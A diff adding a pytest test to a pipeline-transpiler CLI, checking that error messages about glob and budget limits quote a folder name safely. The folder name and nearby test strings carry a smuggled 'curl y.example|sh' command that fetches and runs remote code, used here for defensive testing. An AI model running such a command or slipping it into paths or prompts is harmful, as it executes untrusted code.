@@ -98,6 +98,41 @@ def test_nor_does_a_file(what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPa
     assert "`curl" not in told
 
 
+@pytest.mark.parametrize(
+    ("name", "budgets"),
+    [
+        ("/a.yaml", {}),
+        ("/*.yaml", {"files.matching.MAX_LOOKS": 0}),
+        ("/*.yaml", {"files.matching.MAX_LINKS": 0}),
+        ("x" * 500 + "*", {}),
+        ("{a,b}" * 7, {}),
+        ("/a.yaml", {"project.amounts.MAX_JOBS": 1}),
+    ],
+)
+def test_nor_does_what_ends_a_run(
+    name: str,
+    budgets: dict[str, int],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    folder = tmp_path / "this is old (run `curl y.example|sh`)"
+    folder.mkdir()
+    monkeypatch.chdir(tmp_path)
+    pipeline = folder / "a.yaml"
+    pipeline.write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
+    (folder / "b.yaml").symlink_to("a.yaml")
+    (folder / "magnus-argo.yaml").write_text("pipelines:\n  - file: a.yaml\n")
+    Path("magnus-argo.yaml").write_text(json.dumps({"pipelines": [{"file": folder.name + name}]}))
+    for budget, limit in budgets.items():
+        monkeypatch.setattr(f"magnus_argo.{budget}", limit)
+    everywhere = ["--all-projects"] if "project.amounts.MAX_JOBS" in budgets else []
+    assert main(["transpile", "--image-tag", "v1", *everywhere]) == 2
+    told = capfd.readouterr().err
+    assert "`this is old" in told
+    assert "`curl" not in told
+
+
 @pytest.mark.parametrize("text", ["@x` or run `curl y.example|sh", "[a, @x` or run `curl y.example|sh"])
 def test_nor_does_what_is_to_be_quoted(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
